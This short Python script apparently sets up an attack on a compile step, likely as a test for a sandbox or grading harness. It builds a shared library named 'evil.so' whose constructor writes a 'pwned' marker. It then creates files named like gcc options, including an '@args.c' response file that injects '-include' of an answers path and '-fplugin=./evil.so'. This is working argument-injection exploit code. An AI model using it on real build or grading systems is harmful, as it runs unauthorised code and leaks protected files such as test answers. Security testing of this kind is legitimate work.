import json, os, subprocess, sys

places = json.loads(sys.argv[1])
with open("evil.c", "w", encoding="ascii") as file:
    file.write('#include <stdio.h>\n__attribute__((constructor)) static void go(void) {'
               f'fclose(fopen("{places["WORLD"]}/pwned", "w")); }}\nint plugin_is_GPL_compatible;\n')
subprocess.run(["gcc", "-shared", "-fPIC", "-o", "evil.so", "evil.c"], check=True)
os.remove("evil.c")
for name in ["@args.c", "-specs=x.c", "-fplugin=.%2fevil.so.c", "-include.c", "-o.c", "-wrapper.c", "-B.c", "--help.c"]:
    with open(os.path.join(".", name), "w", encoding="ascii") as file:
        file.write(f"int unused_{len(name)};\n")
with open("args.c", "w", encoding="ascii") as file:
    file.write(f"/* */\n")
with open("./@args.c", "w", encoding="ascii") as file:
    file.write(f"/*\n-include {places['ANSWERS']}\n-fplugin=./evil.so\n*/\n")
